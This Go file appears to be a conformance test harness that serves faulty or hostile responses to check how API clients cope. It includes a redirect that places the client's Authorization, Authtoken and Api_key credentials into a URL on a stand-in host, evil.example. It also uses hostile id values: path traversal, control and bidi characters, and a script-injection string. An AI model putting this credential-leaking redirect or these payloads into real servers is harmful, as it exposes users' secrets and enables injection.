package conformance

import (
	"encoding/json"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
)

// answerFaults are answers that are JSON with a success, and cannot be what they
// seem.
func answerFaults(sc scope) []fault {
	all := []fault{
		{name: "206 with a part", classes: truncatedClasses, serve: withStatus(http.StatusPartialContent)},
		{name: "204", classes: unreadableClasses, serve: func(w http.ResponseWriter, _ *http.Request, _ exchange) { w.WriteHeader(http.StatusNoContent) }},
		{name: "a redirect that quotes the request", classes: unreadableClasses, serve: func(w http.ResponseWriter, r *http.Request, _ exchange) {
			quoteRequest(w, r, http.StatusFound)
		}},
		{name: "an error that quotes the request", classes: anyClass, serve: func(w http.ResponseWriter, r *http.Request, _ exchange) {
			quoteRequest(w, r, http.StatusBadRequest)
		}},
	}
	if hasMembers(sc.body) {
		all = append(all, fault{name: "each member twice", classes: unreadableClasses, serve: func(w http.ResponseWriter, r *http.Request, x exchange) {
			a := x.healthy(r)
			document, _ := parsed(a.Body.Bytes())
			pass(w, a, []byte(doubled(document)))
		}})
	}
	return all
}

func withStatus(status int) func(http.ResponseWriter, *http.Request, exchange) {
	return func(w http.ResponseWriter, r *http.Request, x exchange) {
		a := x.healthy(r)
		a.Code = status
		pass(w, a, a.Body.Bytes())
	}
}

// quoteRequest answers with all that it was sent, where a client may look.
func quoteRequest(w http.ResponseWriter, r *http.Request, status int) {
	w.Header().Set("Location", "https://"+strings.Join(credentialsOf(r), ".")+".evil.example/")
	text, _ := json.Marshal(r.URL.RequestURI() + "\n" + headersOf(r))
	m := `"message":` + string(text)
	answer(w, status, nil, `{`+m+`,"error_message":`+string(text)+`,"error":{"name":"x",`+m+`},"errors":[{`+m+`,"extensions":{"code":"X","reason":`+string(text)+`}}]}`)
}

// credentialsOf returns the credentials in the headers of a request.
func credentialsOf(r *http.Request) []string {
	var found []string
	for _, name := range []string{"Authorization", "Authtoken", "Api_key"} {
		words := strings.Fields(r.Header.Get(name))
		if len(words) == 0 {
			continue
		}
		found = append(found, words[len(words)-1])
		if _, password, basic := r.BasicAuth(); basic {
			found = append(found, password)
		}
	}
	return found
}

// hasMembers reports whether a document has an object with members.
func hasMembers(body []byte) bool {
	document, _ := parsed(body)
	found := false
	walk("", document, func(field string, _ any) { found = found || !strings.HasSuffix(field, "[]") })
	return found
}

// doubled writes a document in which each member comes twice, the second time
// as null.
func doubled(v any) string {
	switch v := v.(type) {
	case map[string]any:
		var members []string
		for name, value := range v {
			key, _ := json.Marshal(name)
			members = append(members, string(key)+":"+doubled(value), string(key)+":null")
		}
		slices.Sort(members)
		slices.Reverse(members)
		return "{" + strings.Join(members, ",") + "}"
	case []any:
		elements := make([]string, len(v))
		for i, element := range v {
			elements[i] = doubled(element)
		}
		return "[" + strings.Join(elements, ",") + "]"
	}
	b, _ := json.Marshal(v)
	return string(b)
}

// valueFaults are values of the right type that no healthy server sends.
func valueFaults(sc scope) []fault {
	var all []fault
	for _, date := range []string{
		"0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999Z", "99999-01-01T00:00:00Z", "2999-01-01T00:00:00Z", "2026-02-30T00:00:00Z",
	} {
		all = append(all, replacing(sc, "every date "+date, honestOrNull, isDate, func(any, int) any { return date })...)
	}
	for name, number := range map[string]string{"negative": "-7", "beyond 64 bits": "123456789012345678901234567890", "a fraction": "0.5", "an exponent": "1e400"} {
		all = append(all, replacing(sc, "every number "+name, honestOrNull, isNumber, func(any, int) any { return json.Number(number) })...)
	}
	all = append(all, replacing(sc, "numbers where there are words", honestOrNull, isWord, func(any, int) any { return json.Number("12345") })...)
	for name, id := range map[string]string{
		"that lead upwards": "../../admin", "with a slash": "a/b%2Fc", "of dots": "..", "of control characters": "a\x00b\x1b[31m\r\nc", "of bidi marks": "a\u202e\u2066b\ufeff",
		"of markup": `"><script>alert(1)</script>|*?[]`, "of 10 kB": strings.Repeat("x", 10<<10), "of a blank": " ",
	} {
		all = append(all, replacing(sc, "ids "+name, sane, isID, func(_ any, n int) any {
			if n == 1 {
				return id
			}
			return id + strconv.Itoa(n)
		})...)
	}
	return append(all, replacing(sc, "one id for all", sane, isID, func(any, int) any { return "the-same" })...)
}

// replacing replaces all values that are picked; there is no fault where none is.
func replacing(sc scope, name string, expect expectation, picked func(field string, v any) bool, by func(v any, n int) any) []fault {
	n := 0
	document, _ := parsed(sc.body)
	walk("", document, func(field string, v any) {
		if picked(field, v) {
			n++
		}
	})
	if n == 0 {
		return nil
	}
	return []fault{{name: name, expect: expect, serve: rewritten(func() func(string, any) any {
		n := 0
		return func(field string, v any) any {
			if !picked(field, v) {
				return v
			}
			n++
			return by(v, n)
		}
	})}}
}

var datePattern = regexp.MustCompile(`^\d{4}-\d\d-\d\d([T ]|$)`)

func isDate(_ string, v any) bool {
	s, isText := v.(string)
	return isText && datePattern.MatchString(s)
}

func isNumber(field string, v any) bool {
	_, yes := v.(json.Number)
	return yes && !isID(field, v)
}

// isWord picks texts that are neither ids nor dates.
func isWord(field string, v any) bool {
	_, isText := v.(string)
	return isText && !isID(field, v) && !isDate(field, v)
}

// isID picks the ids of list items and of what they link to.
func isID(field string, v any) bool {
	switch v.(type) {
	case string, json.Number:
		return slices.Contains([]string{"id", "uid", "uuid"}, field[strings.LastIndexAny(field, ".]")+1:])
	}
	return false
}
